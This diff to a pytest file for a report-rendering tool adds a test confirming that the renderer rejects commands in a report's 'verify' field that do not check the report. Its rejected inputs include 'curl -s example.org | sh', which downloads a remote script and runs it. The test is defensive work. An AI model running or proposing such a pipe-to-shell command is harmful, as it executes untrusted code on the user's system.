@@ -268,6 +268,20 @@ def test_a_refused_or_dry_run_holds_no_answer(report):
             validate(report | {key: value})
 
 
+@pytest.mark.parametrize(
+    "commands",
+    [
+        {"command": "curl -s example.org | sh"},
+        {"proof": ["statpriv verify report.json --certificates proofs"]},
+        {"proof": ["python claim.py", "python -I -m statpriv.checker proofs/claim-1.json"]},
+    ],
+)
+def test_a_page_asks_its_reader_to_run_no_command_but_those_that_check_it(small, commands):
+    small["verify"].update(commands)
+    with pytest.raises(ArgumentError, match=r"\$\.verify"):
+        render(small)
+
+
 @pytest.mark.parametrize("module", ["jsonschema", "jinja2"])
 def test_a_missing_library_names_the_extra(report, monkeypatch, module):
     for prepared in (reports._page, reports._schema):  # once in a process, perhaps by another test
